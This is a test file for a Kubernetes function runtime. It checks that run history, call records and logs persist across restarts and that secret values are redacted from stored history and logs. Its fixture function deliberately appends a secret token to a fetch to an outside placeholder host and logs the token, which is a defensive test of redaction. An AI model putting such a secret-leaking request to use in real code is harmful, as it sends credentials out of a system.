import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import type { RunDetail } from "../../runtime/console/schemas.ts";
import type { LogAnswer, RunsAnswer } from "../../runtime/observe/control-api.ts";
import type { Installation } from "../tools/installation.ts";
import { admin, createTeam, install } from "./cluster.ts";

const history = { bytes: 8 * 2 ** 20, ageMs: 86_400_000 };
const secret = "hunter2-and-longer";

/** Reads, is refused a write and a host, logs its Secret, and fails with it once. */
const work = `
  await ctx.kube.get({ apiVersion: "v1", kind: "ConfigMap", namespace: event.object.metadata.namespace, name: "a" });
  await ctx.kube.get({ apiVersion: "v1", kind: "ConfigMap", namespace: event.object.metadata.namespace, name: ctx.env.TOKEN }).catch(() => {});
  await ctx.kube.delete({ apiVersion: "v1", kind: "ConfigMap", namespace: event.object.metadata.namespace, name: "a" }).catch(() => {});
  await ctx.fetch("https://nowhere.example.com/path?token=" + ctx.env.TOKEN).catch(() => {});
  ctx.log.info("token is " + ctx.env.TOKEN, { token: ctx.env.TOKEN });
  if (event.attempt === 1) throw new TypeError("cannot use " + ctx.env.TOKEN);
`;

async function started(more: object = { history, console: true }) {
  const team = await createTeam();
  const runtime = await install(undefined, more);
  const name = `${team.name}-token`;
  await admin.post("/api/v1/namespaces/default/secrets", {
    metadata: { name },
    data: { token: Buffer.from(secret).toString("base64") },
  });
  const env = [{ name: "TOKEN", valueFrom: { secretKeyRef: { name, key: "token" } } }];
  const permissions = [{ apiGroups: [""], resources: ["configmaps"], verbs: ["get"], namespaces: [team.name] }];
  const delivery = { retry: { maxAttempts: 2, initialDelay: "10ms" } };
  await runtime.define("calls", { watch: team.watch(), spec: { env, permissions, delivery }, work });
  await runtime.start();
  await team.make("a");
  await runtime.hears("calls", "Added a=1 redelivered #2");
  await runtime.quiet();
  return { runtime, team };
}

const runsOf = async (runtime: Installation, path = "functions/calls/runs") =>
  (await runtime.ask<RunsAnswer>(path)).runs;

test("runs with their calls, log lines and errors are there after a kill, and no Secret is in the file", async () => {
  const { runtime, team } = await started();
  await runtime.sees("both attempts are on record", async () => (await runsOf(runtime)).length === 2);
  await runtime.kill();
  const bytes = ["history.db", "history.db-wal"].map((file) => join(runtime.data, file)).filter(existsSync);
  const text = Buffer.concat(bytes.map((file) => readFileSync(file))).toString("latin1");
  expect(text.includes("cannot use [redacted]")).toBe(true);
  for (const form of [secret, Buffer.from(secret).toString("base64")]) expect(text.includes(form)).toBe(false);
  await runtime.start();
  const [second, first] = await runsOf(runtime);
  expect(second).toMatchObject({ attempt: 2, outcome: "ok", redelivered: true, calls: 4, kind: "ConfigMap" });
  expect(first).toMatchObject({ attempt: 1, outcome: "failed", error: "TypeError: cannot use [redacted]" });
  expect(first?.waitedMs).toBeGreaterThanOrEqual(0);
  expect(await runsOf(runtime, "functions/runs?outcome=failed&limit=1")).toMatchObject([
    { function: "calls", attempt: 1 },
  ]);
  const detail = await runtime.ask<RunDetail>(`api/runs/${encodeURIComponent(first?.id ?? "")}?function=calls`);
  expect(detail.attempts[0]?.listedCalls).toMatchObject([
    { operation: "kube.get", target: `ConfigMap ${team.name}/a`, result: "ok", status: 200 },
    { operation: "kube.get", target: `ConfigMap ${team.name}/[redacted]`, result: "NotFoundError", status: 404 },
    { operation: "kube.delete", target: `ConfigMap ${team.name}/a`, result: "refused" },
    { operation: "fetch", target: "GET nowhere.example.com" },
  ]);
  for (const { durationMs } of detail.attempts[0]?.listedCalls ?? []) expect(durationMs).toBeGreaterThanOrEqual(0);
  expect(detail.error).toMatchObject({ name: "TypeError", frame: expect.stringContaining("throw new TypeError") });
  expect(detail.log.map(({ message }) => message)).toContain("token is [redacted]");
  const { lines } = await runtime.ask<LogAnswer>("functions/calls/logs");
  expect(lines.filter(({ line }) => line.includes("token is [redacted]"))).toHaveLength(2);
});

test("a run of an earlier process is delivered again under its id, while its object is unchanged", async () => {
  const team = await createTeam();
  const runtime = await install(undefined, { history });
  await runtime.define("greet", { watch: team.watch() });
  await runtime.start();
  await team.make("a");
  await runtime.hears("greet", "Added a=1");
  await runtime.quiet();
  await runtime.drain();
  await runtime.start();
  const [run] = await runsOf(runtime, "functions/greet/runs");
  expect(await runtime.redeliver("greet", run?.id ?? "")).toMatchObject({ queued: 1 });
  await runtime.hears("greet", "Added a=1 redelivered");
  await team.set("a", 2);
  await runtime.hears("greet", "Modified a=2");
  await expect(runtime.redeliver("greet", run?.id ?? "")).rejects.toThrow("the object has changed since");
});

test("without a history, runs are those of this process, and no file is made", async () => {
  const { runtime } = await started({});
  expect(await runsOf(runtime)).toHaveLength(2);
  expect(await runsOf(runtime, "functions/runs?outcome=failed")).toMatchObject([{ attempt: 1 }]);
  await runtime.drain();
  expect(existsSync(join(runtime.data, "history.db"))).toBe(false);
});
